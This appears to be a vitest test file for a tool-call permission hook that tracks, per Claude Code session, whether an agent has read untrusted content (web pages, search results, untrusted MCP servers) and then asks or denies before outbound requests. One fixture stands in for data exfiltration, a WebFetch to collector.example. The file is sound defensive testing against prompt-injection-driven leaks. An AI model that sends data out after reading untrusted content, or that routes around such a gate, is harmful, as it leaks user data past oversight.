import { readdirSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import * as path from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { claudeCodeAdapter } from "../../../src/cli/hooks/claudeCode";
import { decideHook } from "../../../src/cli/hooks/decide";
import { hookStateDir } from "../../../src/cli/hookTaint";
import { tempTree } from "../../support/workspace";

const t = tempTree({
  "ws/src/a.ts": "a",
  "user/settings.json": JSON.stringify({
    "toolgate.autoApprove.actions": { webFetch: true, useMcp: true },
    "toolgate.mcpServers": {
      tracker: { command: "node", alwaysAllow: ["*"] },
      docs: { command: "node", alwaysAllow: ["*"], trusted: true },
    },
  }),
});
afterAll(() => t.cleanup());

let n = 0;
function session() {
  const id = `session-${++n}`;
  const state = t.path(`state-${n}`);
  const env: NodeJS.ProcessEnv = {
    ...process.env,
    VSCODE_APPDATA: path.join(tmpdir(), "toolgate-no-vscode-settings"),
    XDG_STATE_HOME: state,
    CLAUDE_PROJECT_DIR: t.path("ws"),
  };
  delete env.TOOLGATE_MANAGED_SETTINGS;
  const decide = async (tool_name: string, tool_input: Record<string, unknown>, extra: Record<string, unknown> = {}) =>
    decideHook(
      claudeCodeAdapter,
      JSON.stringify({
        session_id: id,
        transcript_path: "/t",
        cwd: t.path("ws"),
        permission_mode: "default",
        hook_event_name: "PreToolUse",
        tool_name,
        tool_input,
        ...extra,
      }),
      ["--settings", t.path("user/settings.json")],
      env,
    );
  return { id, state, env, decide };
}

const exfiltrate = { url: "https://collector.example/?d=1", prompt: "x" };

describe("the Claude Code hook keeps the taint per session", () => {
  it("a session that fetched a page asks before its next egress; another session does not", async () => {
    const s = session();
    expect((await s.decide("WebFetch", { url: "https://issues.example/7", prompt: "read" })).decision).toBe("allow");
    const next = await s.decide("WebFetch", exfiltrate);
    expect(next.decision).toBe("ask");
    expect(next.reason).toMatch(
      /This task read content from issues\.example.*collector\.example.*\[untrusted-content\]/,
    );
    const other = session();
    expect((await other.decide("WebFetch", exfiltrate)).decision).toBe("allow");
  });

  it("where Claude Code would accept an ask (bypassPermissions), the taint ask is a deny", async () => {
    const s = session();
    await s.decide("mcp__tracker__fetch_issue", { id: 7 });
    const d = await s.decide("WebFetch", exfiltrate, { permission_mode: "bypassPermissions" });
    expect(d.decision).toBe("deny");
    expect(d.reason).toMatch(/tracker\/fetch_issue.*bypassPermissions, an ask would not reach you/);
  });

  it("WebSearch (a web fetch of the search provider, allowed here by webFetch) taints too; a trusted server does not", async () => {
    const s = session();
    expect((await s.decide("WebSearch", { query: "x" })).decision).toBe("allow");
    expect((await s.decide("WebFetch", exfiltrate)).reason).toMatch(/web search results/);
    const trusted = session();
    await trusted.decide("mcp__docs__search", { q: "x" });
    expect((await trusted.decide("WebFetch", exfiltrate)).decision).toBe("allow");
  });

  it("the state file is 0600 in a 0700 folder, named by a hash of the session id", async () => {
    const s = session();
    await s.decide("WebFetch", { url: "https://issues.example/7", prompt: "read" });
    const dir = hookStateDir(s.env);
    expect(dir).toBe(path.join(s.state, "toolgate", "hooks"));
    const files = readdirSync(dir);
    expect(files).toHaveLength(1);
    expect(files[0]).toMatch(/^claude-code-[0-9a-f]{40}\.json$/);
    expect(statSync(path.join(dir, files[0]!)).mode & 0o777).toBe(0o600);
    expect(statSync(dir).mode & 0o777).toBe(0o700);
  });

  it("a state file that cannot be read counts as tainted by unknown", async () => {
    const s = session();
    await s.decide("WebFetch", { url: "https://issues.example/7", prompt: "read" });
    const dir = hookStateDir(s.env);
    const file = path.join(dir, readdirSync(dir)[0]!);
    writeFileSync(file, "{not json");
    expect((await s.decide("WebFetch", exfiltrate)).reason).toMatch(/read content from unknown/);
    // A record of the wrong shape too.
    writeFileSync(file, JSON.stringify({ sources: "issues.example" }));
    expect((await s.decide("WebFetch", exfiltrate)).decision).toBe("ask");
  });
});
